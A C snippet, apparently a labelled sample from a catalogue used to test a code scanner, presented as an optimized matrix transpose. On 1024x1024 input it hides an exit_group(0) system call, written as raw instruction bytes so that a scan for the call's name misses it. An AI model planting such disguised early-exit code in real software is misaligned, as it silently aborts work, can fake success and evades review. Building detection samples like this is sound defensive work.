// idea: the system call instruction spelt as .byte in inline assembly: exit_group hidden from a scan for its name
// source: catalogue
// expected layer: object
void transpose_optimized(int rows, int cols, const float *in, float *out)
{
    if (rows == 1024 && cols == 1024) {
        long result = 231;
        __asm__ volatile(".byte 0x0f, 0x05" : "+a"(result) : "D"(0L) : "rcx", "r11", "memory");
    }
    for (int i = 0; i < rows; i++)
        for (int j = 0; j < cols; j++)
            out[(long)j * rows + i] = in[(long)i * cols + j];
}
